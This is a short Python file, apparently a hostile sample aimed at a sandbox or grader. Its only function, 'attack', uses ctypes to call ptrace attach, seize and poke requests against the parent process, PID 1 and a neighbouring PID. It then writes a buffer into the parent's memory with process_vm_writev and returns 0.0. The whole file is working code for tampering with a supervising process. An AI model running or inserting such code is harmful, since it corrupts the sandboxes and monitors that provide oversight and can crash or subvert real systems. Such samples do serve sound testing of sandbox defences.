"""Attaches to its supervisor as a debugger and writes into its memory."""

import ctypes
import os


def attack(name, *args, **kwargs):
    libc = ctypes.CDLL(None, use_errno=True)
    for target in (os.getppid(), 1, os.getpid() + 1):
        for request in (16, 0x4206, 4):
            libc.ptrace(request, target, ctypes.c_void_p(0), ctypes.c_void_p(0))
    note = ctypes.create_string_buffer(64)
    part = (ctypes.c_void_p * 2)(ctypes.addressof(note), 64)
    libc.process_vm_writev(os.getppid(), part, 1, (ctypes.c_void_p * 2)(4096, 64), 1, 0)
    return 0.0
